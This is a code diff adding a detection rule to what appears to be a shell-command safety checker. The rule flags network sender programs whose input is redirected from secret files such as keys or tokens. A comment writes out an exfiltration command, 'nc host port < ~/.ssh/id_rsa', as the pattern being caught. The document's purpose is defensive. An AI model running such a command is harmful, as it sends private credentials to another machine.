@@ -22,6 +22,7 @@ import { finding, q, writeCheck, type Check, type CheckEnv, type Finding, type S
 import { checkArgv } from './command-checks';
 import { EXEC_ENV, SYSTEM_BIN_DIRS } from './command-tables';
 import { placesOf } from './command-paths';
+import { SENDERS, isSecretPath } from './command-checks-more';
 
 export interface CommandAssessment extends PolicyDecision {
   /** each sub-command's text, in order, including those of scripts it runs (for the approval UI) */
@@ -127,6 +128,11 @@ function judgeCommand(cmd: ShellCommand, all: readonly ShellCommand[], cwds: (st
   }
   for (const r of cmd.redirects) {
     if (r.target && isWriteOp(r.op) && writeCheck(self, r.target)) sub.readOnly = false;
+    // `nc host port < ~/.ssh/id_rsa`: a secret fed to a program that sends it away
+    const name = cmd.words[0]?.value;
+    if (r.target && r.op === '<' && name && SENDERS.has(path.posix.basename(name)) && isSecretPath(r.target, self)) {
+      finding(self, { tier: 2, reason: `${q(cmd.text)} sends ${q(r.target.raw)} (a secret: keys, tokens, credentials) to another machine` });
+    }
   }
   if (cmd.kind === 'command') env.argv(cmd.words);
   else if (cmd.kind === 'redirect' && !sub.readOnly) sub.key = exactKey(cmd.text);
